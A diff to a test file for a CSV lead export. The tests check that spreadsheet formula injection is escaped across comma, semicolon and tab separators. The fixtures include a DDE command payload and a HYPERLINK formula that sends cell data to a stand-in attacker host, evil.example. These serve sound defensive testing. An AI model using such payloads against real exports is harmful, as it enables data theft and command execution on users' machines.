@@ -191,11 +191,42 @@ test('no cell can run as a spreadsheet formula, and quotes, commas and line brea
     Company: `'@SUM(1+1)*cmd|" /C calc"!A0`,
     'E-mail': "'+1@evil.example",
     'Consent user agent': "'-2+3",
-    'Consent IP address': "'\t=1",
+    'Consent IP address': "'\t'=1",
     'Last delivery error': 'webhook answered 500: "boom",\r\nretry later',
   });
   // Every cell a spreadsheet would read as a formula starts with the quote that makes it text.
   for (const cell of Object.values(row ?? {})) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+});
+
+test('a spreadsheet set to `;` or tabs, which splits cells our quotes keep whole, finds no formula either', async () => {
+  const ctx = await setup();
+  const userAgent = 'Mozilla/5.0 (X11);=HYPERLINK("http://evil.example/?"&A1)\t@SUM(1+1)';
+  const contact = await request(ctx.app).post('/api/contact').set('User-Agent', userAgent).send({
+    firstName: 'John',
+    lastName: 'Roe',
+    phoneNumber: '2107654321',
+    companyName: 'Acme;=1+1',
+    email: 'john@example.com',
+  });
+  expect(contact.status).toBe(201);
+
+  const res = await ctx.operator.get('/api/leads/export.csv').buffer(true);
+  expect(res.status).toBe(200);
+  const text = res.text.replace(/^\uFEFF/, '');
+  // Read with the file's own separator, each cell holds the whole value, each formula piece behind a quote.
+  const [row] = records(parseCsv(text));
+  expect(row).toMatchObject({
+    Company: "Acme;'=1+1",
+    'Consent user agent': `Mozilla/5.0 (X11);'=HYPERLINK("http://evil.example/?"&A1)\t'@SUM(1+1)`,
+  });
+  // Read as a spreadsheet in another locale would, no cell is a formula, even once leading blanks are trimmed.
+  for (const separator of [',', ';', '\t'] as const) {
+    for (const cells of parseCsv(text, separator)) {
+      for (const cell of cells) expect(cell, `split by ${JSON.stringify(separator)}`).not.toMatch(/^\s*[=+\-@]/);
+    }
+  }
+  // Nowhere a spreadsheet could start a cell (a separator of any locale, a line break) does a formula begin.
+  expect(text).not.toMatch(/(^|[,;\t\r\n])[\s"]*[=+\-@]/);
 });
 
 test('a large export is streamed as the client reads it: a client that stops reading stops the server', async () => {
